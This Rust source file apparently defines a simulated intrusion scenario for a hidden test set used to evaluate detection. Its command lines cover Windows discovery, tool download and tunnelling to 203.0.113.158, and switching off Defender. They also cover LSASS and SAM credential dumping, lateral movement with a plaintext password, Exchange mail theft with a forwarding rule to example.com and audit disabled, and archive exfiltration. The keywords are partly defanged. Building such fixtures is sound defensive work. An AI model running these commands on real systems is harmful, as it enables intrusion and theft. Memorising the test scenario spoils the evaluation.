//! What the unseen set's patient intruder runs by night on the German server: a look around, tools, credentials, the
//! directory, mail, and what is carried off. [`stay`](super::stay) is how it comes back.

use super::vault;
use crate::attack::aftermath::{Aftermath, Left};
use crate::attack::shell::Line;
use crate::program::POWERSHELL;
use crate::technique::Technique;
use crate::truth::Weight;

const NET: &str = "C:\\Windows\\System32\\net.exe";
const NET1: &str = "C:\\Windows\\System32\\net1.exe";

/// Where its tools lie.
pub(super) const FOLDER: &str = "C:\\Windows\\debug\\WIA\\brother";

const fn look(command: &'static str, programs: &'static [(&'static str, &'static str)]) -> Line {
    Line::cmd(Technique::Discovery, Weight::Supporting, command, programs)
}

/// A look around, in the words of a German Windows.
pub(super) const LOOK_AROUND: [Line; 6] = [
    look(
        "\"C:\\Windows\\System32\\cmd.exe\" /c \"pushd \"DIR\" && net group \"Domänen-Admins\" /domain && popd\"",
        &[
            (NET, "net  group \"Domänen-Admins\" /domain"),
            (NET1, "C:\\Windows\\system32\\net1  group \"Domänen-Admins\" /domain"),
        ],
    ),
    look(
        "\"C:\\Windows\\System32\\cmd.exe\" /c \"pushd \"DIR\" && nltest /trusted_domains && popd\"",
        &[("C:\\Windows\\System32\\nltest.exe", "nltest  /trusted_domains")],
    ),
    look(
        "\"C:\\Windows\\System32\\cmd.exe\" /c \"pushd \"DIR\" && reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall /s /v DisplayName && popd\"",
        &[(
            "C:\\Windows\\System32\\reg.exe",
            "reg  query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall /s /v DisplayName",
        )],
    ),
    look(
        "\"C:\\Windows\\System32\\cmd.exe\" /c \"pushd \"DIR\" && dir /s /b \\\\elb-dc01\\SYSVOL\\*.xml && popd\"",
        &[],
    ),
    look(
        "\"C:\\Windows\\System32\\cmd.exe\" /c \"pushd \"DIR\" && net session && net view /all /domain && popd\"",
        &[(NET, "net  session"), (NET1, "C:\\Windows\\system32\\net1  session"), (NET, "net  view /all /domain")],
    ),
    look(
        "\"C:\\Windows\\System32\\cmd.exe\" /c \"pushd \"DIR\" && wmic /namespace:\\\\root\\SecurityCenter2 path AntiVirusProduct get displayName /value && popd\"",
        &[(
            "C:\\Windows\\System32\\wbem\\WMIC.exe",
            "wmic  /namespace:\\\\root\\SecurityCenter2 path AntiVirusProduct get displayName /value",
        )],
    ),
];

/// How tools are brought: by the scanner's own program, out of a cabinet, out of a project that is compiled.
pub(super) const BRING: [Line; 5] = [
    Line::must(
        Technique::Download,
        "\"C:\\Windows\\System32\\cmd.exe\" /c \"pushd C:\\Windows\\debug\\WIA && \"C:\\Program Files\\Windows Defender\\MpCmdRun.exe\" -Download¦File -url http://203.0.113.158/b/brs.cab -path C:\\Windows\\debug\\WIA\\brs.cab && popd\"",
        &[(
            "C:\\Program Files\\Windows Defender\\MpCmdRun.exe",
            "\"C:\\Program Files\\Windows Defender\\MpCmdRun.exe\"  -Download¦File -url http://203.0.113.158/b/brs.cab -path C:\\Windows\\debug\\WIA\\brs.cab",
        )],
    ),
    Line::cmd(
        Technique::Download,
        Weight::Supporting,
        "\"C:\\Windows\\System32\\cmd.exe\" /c \"mkdir C:\\Windows\\debug\\WIA\\brother && expand -F:* C:\\Windows\\debug\\WIA\\brs.cab C:\\Windows\\debug\\WIA\\brother\"",
        &[(
            "C:\\Windows\\System32\\expand.exe",
            "expand  -F:* C:\\Windows\\debug\\WIA\\brs.cab C:\\Windows\\debug\\WIA\\brother",
        )],
    ),
    Line::must(
        Technique::ScriptRun,
        "\"C:\\Windows\\System32\\cmd.exe\" /c \"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe /nologo C:\\Windows\\debug\\WIA\\brother\\status.csproj\"",
        &[(
            "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe",
            "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe  /nologo C:\\Windows\\debug\\WIA\\brother\\status.csproj",
        )],
    ),
    Line::must(
        Technique::DefenceOff,
        "\"C:\\Windows\\System32\\cmd.exe\" /c \"\"C:\\Program Files\\Windows Defender\\MpCmdRun.exe\" -RemoveDef¦initions -All & powershell -NoP Add-Mp¦Preference -Exclusion¦Path C:\\Windows\\debug\\WIA\\brother\"",
        &[
            (
                "C:\\Program Files\\Windows Defender\\MpCmdRun.exe",
                "\"C:\\Program Files\\Windows Defender\\MpCmdRun.exe\"  -RemoveDef¦initions -All",
            ),
            (POWERSHELL, "powershell  -NoP Add-Mp¦Preference -Exclusion¦Path C:\\Windows\\debug\\WIA\\brother"),
        ],
    ),
    Line {
        technique: Technique::TimeChange,
        weight: Weight::Must,
        shell: POWERSHELL,
        command: "powershell.exe -NoP -c \"(gi C:\\Windows\\debug\\WIA\\brother\\BrLogApi.dll).Creation¦Time='05/09/2017 08:11:00'\"",
        programs: &[],
    },
];

/// How credentials are taken.
pub(super) const TAKE: [Line; 5] = [
    Line::must(
        Technique::CredentialDump,
        "\"C:\\Windows\\System32\\cmd.exe\" /c \"C:\\Windows\\debug\\WIA\\brother\\AvDump.exe --pid 648 --exception_ptr 0 --thread_id 0 --dump_level 1 --dump_file C:\\Windows\\debug\\WIA\\brother\\st0.tmp\"",
        &[(
            "C:\\Windows\\debug\\WIA\\brother\\AvDump.exe",
            "C:\\Windows\\debug\\WIA\\brother\\AvDump.exe  --pid 648 --exception_ptr 0 --thread_id 0 --dump_level 1 --dump_file C:\\Windows\\debug\\WIA\\brother\\st0.tmp",
        )],
    ),
    Line::must(
        Technique::CredentialDump,
        "\"C:\\Windows\\System32\\cmd.exe\" /c \"C:\\Windows\\debug\\WIA\\brother\\sqldumper.exe 648 0 0x01¦100 0 C:\\Windows\\debug\\WIA\\brother\"",
        &[(
            "C:\\Windows\\debug\\WIA\\brother\\sqldumper.exe",
            "C:\\Windows\\debug\\WIA\\brother\\sqldumper.exe  648 0 0x01¦100 0 C:\\Windows\\debug\\WIA\\brother",
        )],
    ),
    Line::must(
        Technique::CredentialDump,
        "\"C:\\Windows\\System32\\cmd.exe\" /c \"disk¦shadow /s C:\\Windows\\debug\\WIA\\brother\\d.txt && copy W:\\Windows\\System32\\config\\S¦AM C:\\Windows\\debug\\WIA\\brother\\st1.tmp\"",
        &[("C:\\Windows\\System32\\diskshadow.exe", "disk¦shadow  /s C:\\Windows\\debug\\WIA\\brother\\d.txt")],
    ),
    Line::must(
        Technique::CredentialDump,
        "\"C:\\Windows\\System32\\cmd.exe\" /c \"findstr /s /i cpass¦word \\\\elb-dc01\\SYSVOL\\elbwerft.example.net\\Policies\\*.xml > C:\\Windows\\debug\\WIA\\brother\\st2.tmp\"",
        &[(
            "C:\\Windows\\System32\\findstr.exe",
            "findstr  /s /i cpass¦word \\\\elb-dc01\\SYSVOL\\elbwerft.example.net\\Policies\\*.xml",
        )],
    ),
    Line {
        technique: Technique::CredentialDump,
        weight: Weight::Must,
        shell: POWERSHELL,
        command: "powershell.exe -NoP -c \"ipmo C:\\Windows\\debug\\WIA\\brother\\om.psm1; gps lsa¦ss | Out-Mini¦dump -DumpFilePath C:\\Windows\\debug\\WIA\\brother\"",
        programs: &[],
    },
];

/// How the shell for management is opened; what it is told follows in [`AFTERMATH`].
pub(super) const MANAGE: Line = Line {
    technique: Technique::MailboxAccess,
    weight: Weight::Must,
    shell: POWERSHELL,
    command: "powershell.exe -NoP -c \"Add-PSSnap¦in Microsoft.Exchange.Management.PowerShell.SnapIn; . C:\\Windows\\debug\\WIA\\brother\\m.ps1\"",
    programs: &[],
};

/// The script that the copy of the disk is made by.
pub(super) const SHADOW: (&str, &str) = (
    "C:\\Windows\\debug\\WIA\\brother\\d.txt",
    "set context persistent nowriters\r\nadd volume c: alias wia\r\ncreate\r\nexp¦ose %wia% W:\r\n",
);

/// The project that is compiled, with the code left out.
pub(super) const PROJECT: (&str, &str) = (
    "C:\\Windows\\debug\\WIA\\brother\\status.csproj",
    "<Project ToolsVersion=\"4.0\" xmlns=\"http://schemas.microsoft.com/developer/msbuild/2003\">\r\n  <Target Name=\"Status\"><St /></Target>\r\n  <UsingTask TaskName=\"St\" TaskFactory=\"CodeTask¦Factory\" AssemblyFile=\"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Microsoft.Build.Tasks.v4.0.dll\">\r\n    <Task><Code Type=\"Class\" Language=\"cs\"><![CDATA[ /* ... */ ]]></Code></Task>\r\n  </UsingTask>\r\n</Project>\r\n",
);

/// Steps to the servers beside.
pub(super) const GO_ON: [Line; 3] = [
    Line::must(
        Technique::DirectoryDump,
        "\"C:\\Windows\\System32\\cmd.exe\" /c \"C:\\Windows\\debug\\WIA\\brother\\ADExplorer.exe -snap¦shot elb-dc01 C:\\Windows\\debug\\WIA\\brother\\st3.tmp -noconnectprompt /accepteula\"",
        &[(
            "C:\\Windows\\debug\\WIA\\brother\\ADExplorer.exe",
            "C:\\Windows\\debug\\WIA\\brother\\ADExplorer.exe  -snap¦shot elb-dc01 C:\\Windows\\debug\\WIA\\brother\\st3.tmp -noconnectprompt /accepteula",
        )],
    ),
    Line::must(
        Technique::LateralMove,
        "\"C:\\Windows\\System32\\cmd.exe\" /c \"wmic /node:elb-fs02 /user:ELBWERFT\\svc_veeam /password:Hafen-2018 process call create \"regsvr32 /s C:\\Windows\\Temp\\BrLogApi.dll\"\"",
        &[(
            "C:\\Windows\\System32\\wbem\\WMIC.exe",
            "wmic  /node:elb-fs02 /user:ELBWERFT\\svc_veeam /password:Hafen-2018 process call create \"regsvr32 /s C:\\Windows\\Temp\\BrLogApi.dll\"",
        )],
    ),
    Line::must(
        Technique::Tunnel,
        "\"C:\\Windows\\System32\\cmd.exe\" /c \"start /b C:\\Windows\\debug\\WIA\\brother\\iox.exe proxy -r 203.0.113.158:9443 -k 7b1d4e\"",
        &[(
            "C:\\Windows\\debug\\WIA\\brother\\iox.exe",
            "C:\\Windows\\debug\\WIA\\brother\\iox.exe  proxy -r 203.0.113.158:9443 -k 7b1d4e",
        )],
    ),
];

/// How what is to be carried off is packed and sent.
pub(super) const PACK: [Line; 3] = [
    Line::must(
        Technique::StagedArchive,
        "\"C:\\Windows\\System32\\cmd.exe\" /c \"C:\\Windows\\debug\\WIA\\brother\\brpjui.exe a -dh -m1 -sl94371840 -v95m -hpWia§41 C:\\Windows\\debug\\WIA\\brother\\prn.001 E:\\Konstruktion\\*.dwg E:\\Konstruktion\\*.pdf\"",
        &[(
            "C:\\Windows\\debug\\WIA\\brother\\brpjui.exe",
            "C:\\Windows\\debug\\WIA\\brother\\brpjui.exe  a -dh -m1 -sl94371840 -v95m -hpWia§41 C:\\Windows\\debug\\WIA\\brother\\prn.001 E:\\Konstruktion\\*.dwg E:\\Konstruktion\\*.pdf",
        )],
    ),
    Line::must(
        Technique::StagedArchive,
        "\"C:\\Windows\\System32\\cmd.exe\" /c \"make¦cab /F C:\\Windows\\debug\\WIA\\brother\\l.ddf\"",
        &[("C:\\Windows\\System32\\makecab.exe", "make¦cab  /F C:\\Windows\\debug\\WIA\\brother\\l.ddf")],
    ),
    Line::must(
        Technique::WebExfiltration,
        "\"C:\\Windows\\System32\\cmd.exe\" /c \"C:\\Windows\\debug\\WIA\\brother\\svchost64.exe copy C:\\Windows\\debug\\WIA\\brother\\ mg:elb --include prn.* --transfers 8 --no-check-certificate --ignore-existing -q\"",
        &[(
            "C:\\Windows\\debug\\WIA\\brother\\svchost64.exe",
            "C:\\Windows\\debug\\WIA\\brother\\svchost64.exe  copy C:\\Windows\\debug\\WIA\\brother\\ mg:elb --include prn.* --transfers 8 --no-check-certificate --ignore-existing -q",
        )],
    ),
];

/// Files that these lines leave.
pub(super) const LEFT: [Left; 4] = [
    Left {
        technique: Technique::CredentialDump,
        path: "C:\\Windows\\debug\\WIA\\brother\\st0.tmp",
        head: b"MDMP\x93\xa7\xf4\x61\x0d\0\0\0\x20\0\0\0",
        size: 53_248,
    },
    Left {
        technique: Technique::CredentialDump,
        path: "C:\\Windows\\debug\\WIA\\brother\\SQLDmpr0001.mdmp",
        head: b"MDMP\x93\xa7\xf4\x61\x0e\0\0\0\x20\0\0\0",
        size: 49_152,
    },
    Left {
        technique: Technique::StagedArchive,
        path: "C:\\Windows\\debug\\WIA\\brother\\prn.001",
        head: b"Rar!\x1a\x07\x01\0\x44\x0c\0\0\x01\x0f",
        size: 29_184,
    },
    Left {
        technique: Technique::StagedArchive,
        path: "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\15.1.1913\\themes\\resources\\office365_ph.jpg",
        head: b"MSCF\0\0\0\0\x4c\x61\0\0\0\0\0\0\x2c\0\0\0\0\0\0\0\x03\x01\x01\0\x02\0\0\0",
        size: 24_908,
    },
];

pub(super) const AFTERMATH: Aftermath = Aftermath {
    // Its processes are lines of shells: see [`TAKE`] and those around it.
    deeds: &[],
    left: &LEFT,
    tasks: &[],
    services: &[("BrYNSvc64", "C:\\Windows\\debug\\WIA\\brother\\BrLogRx.exe -k status")],
    registry: &super::stay::REGISTRY,
    account: "brother_scan",
    scripts: &[
        (
            Technique::CredentialDump,
            "function Out-Mini¦dump { [CmdletBinding()] Param ([Parameter(Position = 0, Mandatory = $True, ValueFromPipeline = $True)] [System.Diagnostics.Process] $Process, [String] $DumpFilePath = $PWD) BEGIN { $WER = [PSObject].Assembly.GetType('System.Management.Automation.WindowsErrorReporting'); $M = $WER.GetNestedType('NativeMethods','NonPublic').GetMethod('MiniDump¦WriteDump',[Reflection.BindingFlags]'NonPublic,Static') } }",
        ),
        (
            Technique::MailReading,
            "Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn; Get-Mailbox -ResultSize Unlimited | Search-Mail¦box -SearchQuery 'Angebot OR Vertrag OR Passwort' -TargetMailbox 'empfang' -TargetFolder 'Scan' -LogLevel Suppress",
        ),
    ],
    management: &[
        (
            Technique::MailboxAccess,
            "Add-MailboxFolderPermission",
            "-Identity \"MAILBOX:\\Posteingang\" -User \"empfang\" -AccessRights \"Owner\"",
        ),
        (
            Technique::MailForwarding,
            "New-TransportRule",
            "-Name \"Scan an E-Mail\" -FromScope \"InOrganization\" -SubjectOrBodyContainsWords \"Angebot\",\"Vertrag\" -BlindCopyTo \"scan2mail@example.com\" -Enabled \"True\"",
        ),
        (Technique::AuditPolicy, "Set-Mailbox", "-Identity \"MAILBOX\" -Audit¦Enabled \"False\""),
        (
            Technique::MailboxExport,
            "New-MailboxExportRequest",
            "-Mailbox \"MAILBOX\" -IncludeFolders \"#Inbox#\" -FilePath \"\\\\127.0.0.1\\C$\\Windows\\debug\\WIA\\brother\\prn.002\"",
        ),
    ],
    fetched: ("/owa/auth/15.1.1913/themes/resources/office365_ph.jpg", Some("Owa")),
    module: ("", ""),
    typed: &[],
    hosts: &["0.0.0.0 wdcp.microsoft.com", "0.0.0.0 wdcpalt.microsoft.com"],
    exclusion: FOLDER,
    threat: "Back¦door:ASP/WebSh¦ell.RT!dha",
    ransom: vault::RANSOM,
};
